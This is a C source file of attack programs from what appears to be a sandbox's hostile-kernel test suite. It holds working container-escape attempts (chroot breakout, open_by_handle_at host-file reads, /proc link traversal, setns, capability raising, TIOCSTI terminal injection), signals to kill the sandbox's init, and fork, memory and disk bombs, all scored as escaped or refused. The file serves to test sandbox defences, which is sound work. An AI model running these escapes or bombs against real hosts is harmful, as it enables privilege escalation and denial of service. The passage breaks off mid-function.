/*
 * Attack programs for HostileKernelTest, one per subcommand: "attack NAME ARGS...". Compiled at test time
 * and run both outside the sandbox (calibration: the attack works there) and inside it (it must not).
 *
 * Exit status: 0 the attack succeeded ("ESCAPED"), 3 it was refused ("REFUSED", the errno printed),
 * 4 the attack itself could not be prepared (a broken test, never a pass).
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/bpf.h>
#include <linux/io_uring.h>
#include <linux/perf_event.h>
#include <linux/sched.h>
#include <linux/userfaultfd.h>
#include <linux/capability.h>
#include <linux/keyctl.h>
#include <netinet/in.h>
#include <arpa/inet.h>
#include <sched.h>
#include <signal.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/io.h>
#include <sys/klog.h>
#include <sys/mount.h>
#include <sys/personality.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/reboot.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/swap.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/timex.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/select.h>
#include <sys/wait.h>
#include <sys/xattr.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

static int escaped(const char *what) {
    printf("ESCAPED: %s\n", what);
    fflush(stdout);
    return 0;
}

static int refused(const char *what) {
    printf("REFUSED: %s: %s\n", what, strerror(errno));
    fflush(stdout);
    return 3;
}

/* A probe past a permission check: the kernel's answer says how far the call got. */
static int reached(const char *what) {
    printf("ESCAPED: %s (the kernel answered: %s)\n", what, strerror(errno));
    fflush(stdout);
    return 0;
}

static int broken(const char *what) {
    printf("BROKEN: %s: %s\n", what, strerror(errno));
    fflush(stdout);
    return 4;
}

/* Reads PATH and succeeds if it holds the marker text. */
static int read_marker(const char *path, const char *marker) {
    char buf[256] = {0};
    int fd = open(path, O_RDONLY);
    if (fd < 0) {
        return -1;
    }
    ssize_t n = read(fd, buf, sizeof buf - 1);
    close(fd);
    if (n < 0) {
        return -1;
    }
    if (strstr(buf, marker) == NULL) {
        errno = EBADMSG;
        return -1;
    }
    return 0;
}

static int cmd_readfile(char **a) {
    return read_marker(a[0], a[1]) == 0 ? escaped(a[0]) : refused(a[0]);
}

/* Every /proc/PID/{root,cwd} and /proc/self/fd/N as a way back to a host path. */
static int cmd_proclinks(char **a) {
    const char *secret = a[0];
    DIR *proc = opendir("/proc");
    if (proc == NULL) {
        return broken("opendir /proc");
    }
    struct dirent *e;
    char path[4096];
    while ((e = readdir(proc)) != NULL) {
        if (e->d_name[0] < '0' || e->d_name[0] > '9') {
            continue;
        }
        const char *links[] = {"root", "cwd"};
        for (int i = 0; i < 2; i++) {
            snprintf(path, sizeof path, "/proc/%s/%s%s", e->d_name, links[i], secret);
            if (read_marker(path, a[1]) == 0) {
                return escaped(path);
            }
        }
    }
    closedir(proc);
    for (int fd = 0; fd < 1024; fd++) {
        snprintf(path, sizeof path, "/proc/self/fd/%d%s", fd, secret);
        if (read_marker(path, a[1]) == 0) {
            return escaped(path);
        }
        if (fcntl(fd, F_GETFD) >= 0 && openat(fd, secret + 1, O_RDONLY) >= 0) {
            return escaped("openat from an inherited descriptor");
        }
    }
    errno = ENOENT;
    return refused("no /proc link leads to the host file");
}

static int cmd_chroot(char **a) {
    char dir[4096];
    snprintf(dir, sizeof dir, "%s/chroot-breakout", a[0]);
    mkdir(dir, 0755);
    if (chroot(dir) != 0) {
        return refused("chroot");
    }
    for (int i = 0; i < 64; i++) {
        if (chdir("..") != 0) {
            return refused("chdir ..");
        }
    }
    if (chroot(".") != 0) {
        return refused("chroot .");
    }
    return read_marker(a[1], a[2]) == 0 ? escaped("chroot breakout") : refused(a[1]);
}

static int cmd_mount(char **a) {
    if (mount("none", a[0], "tmpfs", 0, "size=1m") == 0) {
        return escaped("mounted a tmpfs");
    }
    if (mount("/", a[0], NULL, MS_BIND | MS_REC, NULL) == 0) {
        return escaped("bind-mounted /");
    }
    return refused("mount");
}

/* Detaches every mount, deepest first, to uncover what lies beneath. */
static int cmd_umount(char **a) {
    (void) a;
    FILE *f = fopen("/proc/self/mountinfo", "r");
    if (f == NULL) {
        return broken("mountinfo");
    }
    char line[4096];
    char points[256][512];
    int n = 0;
    while (n < 256 && fgets(line, sizeof line, f) != NULL) {
        char point[512];
        if (sscanf(line, "%*s %*s %*s %*s %511s", point) == 1) {
            snprintf(points[n++], sizeof points[0], "%s", point);
        }
    }
    fclose(f);
    for (int i = n - 1; i >= 0; i--) {
        if (umount2(points[i], MNT_DETACH) == 0) {
            return escaped(points[i]);
        }
    }
    return refused("umount2 of every mount");
}

static int cmd_pivotroot(char **a) {
    if (chdir(a[0]) != 0) {
        return broken("chdir");
    }
    if (syscall(SYS_pivot_root, ".", ".") == 0) {
        return escaped("pivot_root");
    }
    return refused("pivot_root");
}

static int cmd_remount(char **a) {
    if (mount(NULL, a[0], NULL, MS_REMOUNT | MS_BIND, NULL) != 0) {
        return refused("remount read-write");
    }
    char path[4096];
    snprintf(path, sizeof path, "%s/written-after-remount", a[0]);
    int fd = open(path, O_WRONLY | O_CREAT, 0644);
    if (fd < 0) {
        return refused("write after remount");
    }
    close(fd);
    return escaped("remounted read-write and wrote");
}

static int cmd_fsopen(char **a) {
    (void) a;
    int fd = syscall(SYS_fsopen, "tmpfs", 0);
    if (fd < 0) {
        return refused("fsopen");
    }
    return escaped("fsopen");
}

/* Prints the file handle of a path, for handle-open inside ("shocker"). */
static int cmd_handlegen(char **a) {
    struct file_handle *h = malloc(sizeof *h + MAX_HANDLE_SZ);
    h->handle_bytes = MAX_HANDLE_SZ;
    int mount_id;
    if (name_to_handle_at(AT_FDCWD, a[0], h, &mount_id, 0) != 0) {
        return broken("name_to_handle_at");
    }
    printf("%d:", h->handle_type);
    for (unsigned i = 0; i < h->handle_bytes; i++) {
        printf("%02x", h->f_handle[i]);
    }
    printf("\n");
    return 0;
}

static int cmd_handleopen(char **a) {
    struct file_handle *h = malloc(sizeof *h + MAX_HANDLE_SZ);
    const char *hex = strchr(a[0], ':');
    if (hex == NULL) {
        return broken("handle format");
    }
    h->handle_type = atoi(a[0]);
    h->handle_bytes = strlen(hex + 1) / 2;
    for (unsigned i = 0; i < h->handle_bytes; i++) {
        sscanf(hex + 1 + 2 * i, "%2hhx", &h->f_handle[i]);
    }
    int mount_fd = open("/", O_RDONLY | O_DIRECTORY);
    int fd = open_by_handle_at(mount_fd, h, O_RDONLY);
    if (fd < 0) {
        return refused("open_by_handle_at");
    }
    char buf[256] = {0};
    if (read(fd, buf, sizeof buf - 1) > 0 && strstr(buf, a[1]) != NULL) {
        return escaped("read the host file by its handle");
    }
    errno = EBADMSG;
    return refused("handle opened another file");
}

static int cmd_symlink(char **a) {
    char link[4096];
    snprintf(link, sizeof link, "%s/link-to-host", a[1]);
    unlink(link);
    if (symlink(a[0], link) != 0) {
        return refused("symlink");
    }
    return read_marker(link, a[2]) == 0 ? escaped("read through a symlink") : refused("read through a symlink");
}

static int cmd_hardlink(char **a) {
    char copy[4096];
    snprintf(copy, sizeof copy, "%s/hardlink-of-victim", a[1]);
    unlink(copy);
    if (link(a[0], copy) != 0) {
        return refused("link");
    }
    int fd = open(copy, O_WRONLY | O_APPEND);
    if (fd < 0) {
        return refused("open the hard link for writing");
    }
    if (write(fd, "PWNED", 5) != 5) {
        return refused("write through the hard link");
    }
    close(fd);
    return escaped("wrote through a hard link");
}

/* Every way of changing a file on a read-only bind. */
static int cmd_writero(char **a) {
    const char *f = a[0];
    char other[4096];
    snprintf(other, sizeof other, "%s.renamed", f);
    int fd = open(f, O_WRONLY | O_APPEND);
    if (fd >= 0 && write(fd, "PWNED", 5) == 5) {
        return escaped("write");
    }
    if (truncate(f, 0) == 0) {
        return escaped("truncate");
    }
    if (chmod(f, 0777) == 0) {
        return escaped("chmod");
    }
    if (chown(f, 0, 0) == 0) {
        return escaped("chown");
    }
    if (utimes(f, NULL) == 0) {
        return escaped("utimes");
    }
    if (rename(f, other) == 0) {
        return escaped("rename");
    }
    if (unlink(f) == 0) {
        return escaped("unlink");
    }
    return refused("every change to the read-only file");
}

static int cmd_findproc(char **a) {
    DIR *proc = opendir("/proc");
    struct dirent *e;
    char path[512], buf[4096];
    while ((e = readdir(proc)) != NULL) {
        if (e->d_name[0] < '0' || e->d_name[0] > '9') {
            continue;
        }
        snprintf(path, sizeof path, "/proc/%s/cmdline", e->d_name);
        int fd = open(path, O_RDONLY);
        if (fd < 0) {
            continue;
        }
        ssize_t n = read(fd, buf, sizeof buf - 1);
        close(fd);
        for (ssize_t i = 0; i < n; i++) {
            if (buf[i] == 0) {
                buf[i] = ' ';
            }
        }
        buf[n < 0 ? 0 : n] = 0;
        if (strstr(buf, a[0]) != NULL && atoi(e->d_name) != getpid()) {
            return escaped(buf);
        }
    }
    errno = ESRCH;
    return refused("the host process is not in /proc");
}

static int cmd_signal(char **a) {
    pid_t pid = atoi(a[0]);
    if (kill(pid, 0) == 0) {
        return escaped("signalled the host process");
    }
    int saved = errno;
    if (a[1] != NULL && strcmp(a[1], "killall") == 0) {
        kill(-1, SIGKILL); /* everything it can see (inside only); the host process must survive this */
    }
    errno = saved;
    return refused("kill");
}

static int cmd_ptrace(char **a) {
    pid_t pid = atoi(a[0]);
    if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0) {
        ptrace(PTRACE_DETACH, pid, 0, 0);
        return escaped("ptrace attached");
    }
    return refused("ptrace");
}

static int cmd_procmem(char **a) {
    char path[64];
    snprintf(path, sizeof path, "/proc/%s/mem", a[0]);
    int fd = open(path, O_RDWR);
    if (fd >= 0) {
        return escaped("opened the process's memory for writing");
    }
    return refused(path);
}

/* The test's secret in any visible process's environment. */
static int cmd_environ(char **a) {
    DIR *proc = opendir("/proc");
    struct dirent *e;
    char path[512], buf[65536];
    while ((e = readdir(proc)) != NULL) {
        snprintf(path, sizeof path, "/proc/%s/environ", e->d_name);
        int fd = open(path, O_RDONLY);
        if (fd < 0) {
            continue;
        }
        ssize_t n = read(fd, buf, sizeof buf - 1);
        close(fd);
        for (ssize_t i = 0; i + (ssize_t) strlen(a[0]) <= n; i++) {
            if (memcmp(buf + i, a[0], strlen(a[0])) == 0) {
                return escaped(path);
            }
        }
    }
    errno = ENOENT;
    return refused("no visible environment holds the secret");
}

static int cmd_fdscan(char **a) {
    (void) a;
    DIR *d = opendir("/proc/self/fd");
    struct dirent *e;
    char path[512], target[512];
    while ((e = readdir(d)) != NULL) {
        int fd = atoi(e->d_name);
        if (e->d_name[0] == '.' || fd <= 2 || fd == dirfd(d)) {
            continue;
        }
        snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
        ssize_t n = readlink(path, target, sizeof target - 1);
        target[n < 0 ? 0 : n] = 0;
        return escaped(target);
    }
    errno = EBADF;
    return refused("no descriptor but 0, 1 and 2");
}

static int connect_unix(const char *path, int abstract) {
    int s = socket(AF_UNIX, SOCK_STREAM, 0);
    if (s < 0) {
        return -1;
    }
    struct sockaddr_un addr = {.sun_family = AF_UNIX};
    size_t len = strlen(path);
    if (len >= sizeof addr.sun_path - 1) {
        errno = ENAMETOOLONG;
        return -1;
    }
    memcpy(addr.sun_path + (abstract ? 1 : 0), path, len);
    socklen_t alen = offsetof(struct sockaddr_un, sun_path) + len + (abstract ? 1 : 0);
    if (connect(s, (struct sockaddr *) &addr, alen) != 0) {
        int saved = errno;
        close(s);
        errno = saved;
        return -1;
    }
    return s;
}

/*
 * The launcher's control socket: whatever /proc/1/cmdline names, init's own descriptors, and every listening
 * path socket /proc/net/unix lists.
 */
static int cmd_control(char **a) {
    char buf[8192], path[512];
    snprintf(path, sizeof path, "/proc/%s/cmdline", a[0]);
    int fd = open(path, O_RDONLY);
    ssize_t n = fd < 0 ? 0 : read(fd, buf, sizeof buf - 1);
    buf[n < 0 ? 0 : n] = 0;
    for (ssize_t i = 0; i < n; i += strlen(buf + i) + 1) {
        const char *arg = buf + i;
        if (strchr(arg, '/') != NULL && connect_unix(arg, 0) >= 0) {
            return escaped(arg);
        }
    }
    for (int i = 0; i < 256; i++) {
        snprintf(path, sizeof path, "/proc/%s/fd/%d", a[0], i);
        if (open(path, O_RDWR) >= 0) {
            return escaped(path);
        }
    }
    /* only sandbox4j's own sockets: the calibration outside must not knock on the host's other services */
    FILE *f = fopen("/proc/net/unix", "r");
    char line[1024];
    while (f != NULL && fgets(line, sizeof line, f) != NULL) {
        char p[512] = {0};
        if (sscanf(line, "%*s %*s %*s %*s %*s %*s %*s %511s", p) == 1 && strstr(p, "sandbox4j") != NULL
                && (p[0] == '/' || p[0] == '@') && connect_unix(p + (p[0] == '@'), p[0] == '@') >= 0) {
            return escaped(p);
        }
    }
    errno = ECONNREFUSED;
    return refused("no control socket reachable");
}

static int cmd_connectunix(char **a) {
    int abstract = a[0][0] == '@';
    return connect_unix(a[0] + abstract, abstract) >= 0 ? escaped(a[0]) : refused(a[0]);
}

static int cmd_connecttcp(char **a) {
    int s = socket(AF_INET, SOCK_STREAM, 0);
    if (s < 0) {
        return refused("socket");
    }
    struct sockaddr_in addr = {.sin_family = AF_INET, .sin_port = htons(atoi(a[1]))};
    inet_pton(AF_INET, a[0], &addr.sin_addr);
    if (connect(s, (struct sockaddr *) &addr, sizeof addr) != 0) {
        return refused("connect");
    }
    char buf[64] = {0};
    if (read(s, buf, sizeof buf - 1) > 0 && strstr(buf, a[2]) != NULL) {
        return escaped("talked to the host's loopback service");
    }
    errno = EBADMSG;
    return refused("a service, but not the host's");
}

static int cmd_packet(char **a) {
    (void) a;
    int s = socket(AF_PACKET, SOCK_RAW, htons(3 /* ETH_P_ALL */));
    return s >= 0 ? escaped("a raw packet socket") : refused("socket(AF_PACKET)");
}

static int cmd_setns(char **a) {
    const char *names[] = {"mnt", "net", "pid", "uts", "ipc", "user", "cgroup"};
    char path[256];
    int last = 0;
    for (int i = 0; i < 7; i++) {
        snprintf(path, sizeof path, "/proc/%s/ns/%s", a[0], names[i]);
        int fd = open(path, O_RDONLY);
        if (fd < 0) {
            last = errno;
            continue;
        }
        if (setns(fd, 0) == 0) {
            return escaped(path);
        }
        last = errno;
    }
    errno = last;
    return refused("setns");
}

static int cmd_unshareuser(char **a) {
    (void) a;
    if (unshare(CLONE_NEWUSER | CLONE_NEWNS) != 0) {
        return refused("unshare(CLONE_NEWUSER)");
    }
    return escaped("a nested user namespace with every capability in it");
}

static int child_fn(void *arg) {
    (void) arg;
    return 0;
}

static int cmd_clonenewuser(char **a) {
    (void) a;
    char *stack = malloc(65536);
    pid_t pid = clone(child_fn, stack + 65536, CLONE_NEWUSER | CLONE_NEWNS | SIGCHLD, NULL);
    if (pid < 0) {
        return refused("clone(CLONE_NEWUSER)");
    }
    waitpid(pid, NULL, 0);
    return escaped("clone into a new user namespace");
}

static int cmd_clone3newuser(char **a) {
    (void) a;
    struct clone_args args = {.flags = CLONE_NEWUSER | CLONE_NEWNS, .exit_signal = SIGCHLD};
    long pid = syscall(SYS_clone3, &args, sizeof args);
    if (pid < 0) {
        return refused("clone3(CLONE_NEWUSER)");
    }
    if (pid == 0) {
        _exit(0);
    }
    waitpid(pid, NULL, 0);
    return escaped("clone3 into a new user namespace");
}

static int cmd_capset(char **a) {
    (void) a;
    struct __user_cap_header_struct h = {.version = _LINUX_CAPABILITY_VERSION_3};
    struct __user_cap_data_struct d[2] = {0};
    d[0].effective = d[0].permitted = (1u << CAP_SYS_ADMIN) | (1u << CAP_DAC_OVERRIDE) | (1u << CAP_SETUID);
    if (syscall(SYS_capset, &h, d) != 0) {
        return refused("capset(CAP_SYS_ADMIN, CAP_DAC_OVERRIDE, CAP_SETUID)");
    }
    return escaped("raised CAP_SYS_ADMIN, CAP_DAC_OVERRIDE and CAP_SETUID");
}

static int cmd_ambient(char **a) {
    (void) a;
    struct __user_cap_header_struct h = {.version = _LINUX_CAPABILITY_VERSION_3};
    struct __user_cap_data_struct d[2];
    if (syscall(SYS_capget, &h, d) != 0) {
        return broken("capget");
    }
    d[0].inheritable |= 1u << CAP_SYS_ADMIN;
    syscall(SYS_capset, &h, d);
    if (prctl(PR_CAP_AMBIENT, PR_CAP_AMBIENT_RAISE, CAP_SYS_ADMIN, 0, 0) != 0) {
        return refused("PR_CAP_AMBIENT_RAISE");
    }
    return escaped("CAP_SYS_ADMIN in the ambient set");
}

/* Run as a setuid-root or file-capability copy: reads a file only root may read. */
static int cmd_privread(char **a) {
    return read_marker(a[0], a[1]) == 0 ? escaped("read a root-only file") : refused(a[0]);
}

/* Gives PATH the file capability CAP_DAC_READ_SEARCH (permitted and effective). */
static int cmd_setfcap(char **a) {
    struct vfs_cap_data cap = {0};
    cap.magic_etc = VFS_CAP_REVISION_2 | VFS_CAP_FLAGS_EFFECTIVE;
    cap.data[0].permitted = 1u << CAP_DAC_READ_SEARCH;
    if (setxattr(a[0], "security.capability", &cap, XATTR_CAPS_SZ_2, 0) != 0) {
        return broken("setxattr security.capability");
    }
    return 0;
}

/* Pushes a command into the terminal's input, then reads it back: injected if it arrives. */
static int cmd_tiocsti(char **a) {
    unsigned long request = TIOCSTI;
    if (a[0] != NULL && strcmp(a[0], "highbits") == 0) {
        request |= 1UL << 32;
    }
    if (!isatty(0)) {
        errno = ENOTTY;
        return broken("stdin is not a terminal");
    }
    struct termios t;
    tcgetattr(0, &t);
    t.c_lflag &= ~(ICANON | ECHO);
    t.c_cc[VMIN] = 0;
    t.c_cc[VTIME] = 5;
    tcsetattr(0, TCSANOW, &t);
    const char *cmd = "id\n";
    for (const char *c = cmd; *c; c++) {
        if (syscall(SYS_ioctl, 0, request, c) != 0) {
            return refused("TIOCSTI");
        }
    }
    char buf[64] = {0};
    size_t have = 0;
    for (int i = 0; i < 4 && have < sizeof buf - 1; i++) { /* VTIME: up to 0.5 s a read */
        ssize_t n = read(0, buf + have, sizeof buf - 1 - have);
        have += n > 0 ? (size_t) n : 0;
        if (strstr(buf, cmd) != NULL) {
            return escaped("typed into the terminal");
        }
    }
    errno = EIO;
    return refused("nothing arrived");
}

/* A refusal by the filter is EPERM; any other answer means the kernel's console code was reached. */
static int cmd_tioclinux(char **a) {
    (void) a;
    char subcode = 2; /* TIOCL_SETSEL */
    if (ioctl(0, TIOCLINUX, &subcode) == 0 || errno != EPERM) {
        return reached("TIOCLINUX reached the kernel");
    }
    return refused("TIOCLINUX");
}

static int cmd_iouring(char **a) {
    (void) a;
    struct io_uring_params p = {0};
    return syscall(SYS_io_uring_setup, 4, &p) >= 0 ? escaped("an io_uring") : refused("io_uring_setup");
}

static int cmd_userfaultfd(char **a) {
    (void) a;
    return syscall(SYS_userfaultfd, O_CLOEXEC | UFFD_USER_MODE_ONLY) >= 0 ? escaped("a userfaultfd")
            : refused("userfaultfd");
}

static int cmd_bpf(char **a) {
    (void) a;
    union bpf_attr attr = {0};
    attr.map_type = BPF_MAP_TYPE_ARRAY;
    attr.key_size = 4;
    attr.value_size = 4;
    attr.max_entries = 1;
    return syscall(SYS_bpf, BPF_MAP_CREATE, &attr, sizeof attr) >= 0 ? escaped("a BPF map") : refused("bpf");
}

static int cmd_perf(char **a) {
    (void) a;
    struct perf_event_attr attr = {0};
    attr.size = sizeof attr;
    attr.type = PERF_TYPE_SOFTWARE;
    attr.config = PERF_COUNT_SW_CPU_CLOCK;
    attr.exclude_kernel = 1;
    attr.exclude_hv = 1;
    return syscall(SYS_perf_event_open, &attr, 0, -1, -1, 0) >= 0 ? escaped("a perf event")
            : refused("perf_event_open");
}

static int cmd_keyring(char **a) {
    (void) a;
    long id = syscall(SYS_add_key, "user", "sandbox4j-hostile", "x", 1, KEY_SPEC_USER_KEYRING);
    if (id < 0) {
        return refused("add_key to the user keyring");
    }
    syscall(SYS_keyctl, KEYCTL_UNLINK, id, KEY_SPEC_USER_KEYRING);
    return escaped("a key in the (not namespaced) user keyring");
}

/* An invalid flag after the permission check: anything but EPERM means the kernel got that far. */
static int cmd_kexec(char **a) {
    (void) a;
    if (syscall(SYS_kexec_load, 0, 0, NULL, 0xdead0000UL) != 0 && errno == EPERM) {
        return refused("kexec_load");
    }
    return reached("kexec_load past the permission check");
}

static int cmd_reboot(char **a) {
    (void) a;
    /* a wrong magic number fails with EINVAL, but only after the capability check */
    if (syscall(SYS_reboot, 0x12345678, 0x12345678, 0, NULL) != 0 && errno == EPERM) {
        return refused("reboot");
    }
    return reached("reboot past the permission check");
}

static int cmd_module(char **a) {
    (void) a;
    int fd = open("/dev/null", O_RDONLY);
    if (syscall(SYS_finit_module, fd, "", 0) != 0 && errno == EPERM) {
        return refused("finit_module");
    }
    return reached("finit_module past the permission check");
}

static int cmd_iopl(char **a) {
    (void) a;
    return iopl(3) == 0 ? escaped("iopl(3)") : refused("iopl");
}

static int cmd_syslog(char **a) {
    (void) a;
    char buf[4096];
    return klogctl(3 /* READ_ALL */, buf, sizeof buf) >= 0 ? escaped("read the kernel log") : refused("syslog");
}

static int cmd_swapoff(char **a) {
    (void) a;
    if (swapoff("/nonexistent-swap") != 0 && errno == EPERM) {
        return refused("swapoff");
    }
    return reached("swapoff past the permission check");
}

static int cmd_acct(char **a) {
    (void) a;
    if (acct("/nonexistent-dir/acct") != 0 && errno == EPERM) {
        return refused("acct");
    }
    return reached("acct past the permission check");
}

static int cmd_openany(char **a) {
    for (int i = 0; a[i] != NULL; i++) {
        int fd = open(a[i], O_RDONLY);
        char buf[512];
        if (fd >= 0 && read(fd, buf, sizeof buf) > 0) {
            return escaped(a[i]);
        }
    }
    return refused(a[0]);
}

static int cmd_mknod(char **a) {
    char path[4096];
    snprintf(path, sizeof path, "%s/kmsg-node", a[0]);
    unlink(path);
    if (mknod(path, S_IFCHR | 0600, makedev(1, 11)) != 0) {
        return refused("mknod");
    }
    int fd = open(path, O_RDONLY);
    unlink(path);
    if (fd < 0) {
        return refused("open the new device node");
    }
    return escaped("opened a /dev/kmsg node of its own");
}

/* Writes back the value a kernel setting already has: success means the host's setting could be changed. */
static int cmd_writeback(char **a) {
    char buf[4096] = {0};
    int fd = open(a[0], O_RDONLY);
    if (fd < 0) {
        return refused(a[0]);
    }
    ssize_t n = read(fd, buf, sizeof buf - 1);
    close(fd);
    fd = open(a[0], O_WRONLY);
    if (fd < 0) {
        return refused(a[0]);
    }
    if (n <= 0 || write(fd, buf, n) != n) {
        return refused(a[0]);
    }
    return escaped(a[0]);
}

static int cmd_cgroupprocs(char **a) {
    (void) a;
    const char *ctrls[] = {"memory", "pids", "cpu", "cpuacct", "cpuset", "devices", "freezer", "blkio",
            "systemd", "unified", ""};
    char path[512], pid[32];
    snprintf(pid, sizeof pid, "%d\n", getpid());
    int last = ENOENT;
    for (int i = 0; i < 11; i++) {
        snprintf(path, sizeof path, "/sys/fs/cgroup/%s%scgroup.procs", ctrls[i], ctrls[i][0] ? "/" : "");
        int fd = open(path, O_WRONLY);
        if (fd >= 0 && write(fd, pid, strlen(pid)) > 0) {
            return escaped(path);
        }
        last = errno;
        if (fd >= 0) {
            close(fd);
        }
    }
    errno = last;
    return refused("cgroup.procs of every hierarchy's root");
}

static int cmd_bombpids(char **a) {
    int want = atoi(a[0]);
    int made = 0;
    pid_t *children = calloc(want, sizeof *children);
    for (int i = 0; i < want; i++) {
        pid_t p = fork();
        if (p == 0) {
            pause();
            _exit(0);
        }
        if (p < 0) {
            break;
        }
        children[made++] = p;
    }
    printf("forked %d of %d\n", made, want);
    for (int i = 0; i < made; i++) {
        kill(children[i], SIGKILL);
        waitpid(children[i], NULL, 0);
    }
    return made >= want ? escaped("every fork") : refused("fork");
}

static int cmd_bombmem(char **a) {
    long mib = atol(a[0]);
    for (long i = 0; i < mib; i++) {
        char *p = malloc(1 << 20);
        if (p == NULL) {
            printf("allocated %ld of %ld MiB\n", i, mib);
            return refused("malloc");
        }
        memset(p, 1, 1 << 20);
    }
    return escaped("all the memory");
}

static int cmd_bombdisk(char **a) {
    long mib = atol(a[1]);
    signal(SIGXFSZ, SIG_IGN);
    int fd = open(a[0], O_WRONLY | O_CREAT | O_TRUNC, 0644);
    if (fd < 0) {
        return broken(a[0]);
    }
    static char chunk[1 << 20];
    for (long i = 0; i < mib; i++) {
        if (write(fd, chunk, sizeof chunk) != sizeof chunk) {
            printf("wrote %ld of %ld MiB\n", i, mib);
            unlink(a[0]);
            return refused("write");
        }
    }
    unlink(a[0]);
    return escaped("the whole file");
}

static int cmd_clock(char **a) {
    (void) a;
    struct timex t = {0};
    if (adjtimex(&t) < 0) {
        return broken("adjtimex read");
    }
    long tick = t.tick;
    memset(&t, 0, sizeof t);
    t.modes = ADJ_TICK;
    t.tick = tick; /* the value it has: allowed means the host's clock could be changed */
    return adjtimex(&t) >= 0 ? escaped("adjtimex(ADJ_TICK)") : refused("adjtimex");
}

static int cmd_hostname(char **a) {
    return sethostname(a[0], strlen(a[0])) == 0 ? escaped("sethostname") : refused("sethostname");
}

/* A daemon: double fork, setsid, signals ignored, descriptors closed, then it lingers. */
static int cmd_daemon(char **a) {
    pid_t p = fork();
    if (p == 0) {
        setsid();
        if (fork() == 0) {
            for (int s = 1; s < 32; s++) {
                signal(s, SIG_IGN);
            }
            close(0);
            close(1);
            close(2);
            execl("/bin/sleep", "sleep", a[0], NULL);
            _exit(1);
        }
        _exit(0);
    }
    waitpid(p, NULL, 0);
    return escaped("a daemon was started");
}

/* Against the sandbox's own machinery: kill the parent and init, stop them, ignore every signal, linger. */
static int cmd_antitimeout(char **a) {
    for (int s = 1; s < 32; s++) {
        signal(s, SIG_IGN);
    }
    setsid();
    kill(getppid(), SIGKILL);
    if (a[1] != NULL) { /* the sandbox's init: given inside only */
        kill(atoi(a[1]), SIGSTOP);
        kill(atoi(a[1]), SIGKILL);
    }
    if (fork() == 0) {
        execl("/bin/sleep", "sleep", a[0], NULL);
        _exit(1);
    }
    sleep(60);
    return 0;
}

/* x32 getpid: the filter must kill it whatever the kernel would answer. */
static int cmd_x32(char **a) {
    (void) a;
    syscall(0x40000000 | SYS_getpid);
    return escaped("an x32 system call was not killed");
}

/* mkdir through the 32-bit entry point (i386 number 39). */
static int cmd_int80(char **a) {
    char *path = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
    if (path == MAP_FAILED) {
        return broken("mmap MAP_32BIT");
    }
    snprintf(path, 4096, "%s", a[0]);
    long ret;
    __asm__ volatile("int $0x80" : "=a"(ret) : "a"(39), "b"((long) path), "c"(0755L) : "memory");
    struct stat st;
    if (stat(a[0], &st) == 0) {
        return escaped("mkdir through int 0x80");
    }
    errno = ret < 0 ? (int) -ret : ENOENT;
    return refused("int 0x80 mkdir");
}

static int cmd_personality(char **a) {
    (void) a;
    if (personality(ADDR_NO_RANDOMIZE | READ_IMPLIES_EXEC) == -1) {
        return refused("personality");
    }
    if ((personality(0xffffffff) & ADDR_NO_RANDOMIZE) == 0) {
        errno = EINVAL;
        return refused("personality not changed");
    }
    return escaped("ASLR off, READ_IMPLIES_EXEC on");
}

/*
 * The host's services for the tests (not an attack): a path socket, an abstract socket and a loopback TCP port
 * that answer "HOST-OK". Prints "PORT PID" and goes to the background; ends after 15 minutes at the latest.
 */
static int cmd_serve(char **a) {
    int fds[3];
    struct sockaddr_un path = {.sun_family = AF_UNIX};
    snprintf(path.sun_path, sizeof path.sun_path, "%s", a[0]);
    unlink(a[0]);
    fds[0] = socket(AF_UNIX, SOCK_STREAM, 0);
    if (bind(fds[0], (struct sockaddr *) &path, sizeof path) != 0 || listen(fds[0], 16) != 0) {
        return broken("path socket");
    }
    chmod(a[0], 0777);
    struct sockaddr_un abstract = {.sun_family = AF_UNIX};
    memcpy(abstract.sun_path + 1, a[1], strlen(a[1]));
    fds[1] = socket(AF_UNIX, SOCK_STREAM, 0);
    if (bind(fds[1], (struct sockaddr *) &abstract, offsetof(struct sockaddr_un, sun_path) + 1 + strlen(a[1])) != 0
            || listen(fds[1], 16) != 0) {
        return broken("abstract socket");
    }
    struct sockaddr_in tcp = {.sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
    socklen_t len = sizeof tcp;
    fds[2] = socket(AF_INET, SOCK_STREAM, 0);
    if (bind(fds[2], (struct sockaddr *) &tcp, sizeof tcp) != 0 || listen(fds[2], 16) != 0
            || getsockname(fds[2], (struct sockaddr *) &tcp, &len) != 0) {
        return broken("tcp socket");
    }
    pid_t pid = fork();
    if (pid != 0) {
        printf("%d %d\n", ntohs(tcp.sin_port), pid);
        return 0;
    }
    setsid();
    signal(SIGPIPE, SIG_IGN); /* a client that leaves before the answer must not end the service */
    int null = open("/dev/null", O_RDWR);
    dup2(null, 0);
    dup2(null, 1);
    dup2(null, 2);
    alarm(900);
    for (;;) {
        fd_set set;
        FD_ZERO(&set);
        for (int i = 0; i < 3; i++) {
            FD_SET(fds[i], &set);
        }
        if (select(fds[2] + 1, &set, NULL, NULL, NULL) < 0) {
            continue;
        }
        for (int i = 0; i < 3; i++) {
            if (FD_ISSET(fds[i], &set)) {
                int c = accept(fds[i], NULL, NULL);
                if (c >= 0) {
                    if (write(c, "HOST-OK\n", 8) < 0) {
                        /* the client went away */
                    }
                    close(c);
                }
            }
        }
    }
}

/*
 * Another run's control socket: watches the directories that /proc/1/cmdline (and ARGS after the first) name
 * for sockets that are not its own, for SECONDS, and connects to each; escaped if one accepts and talks.
 */
static int cmd_takeover(char **a) {
    char dirs[8][512];
    char own[4096] = {0};
    int ndirs = 0;
    int fd = open("/proc/1/cmdline", O_RDONLY);
    ssize_t n = fd < 0 ? 0 : read(fd, own, sizeof own - 1);
    for (ssize_t i = 0; i < n && ndirs < 8; i += strlen(own + i) + 1) {
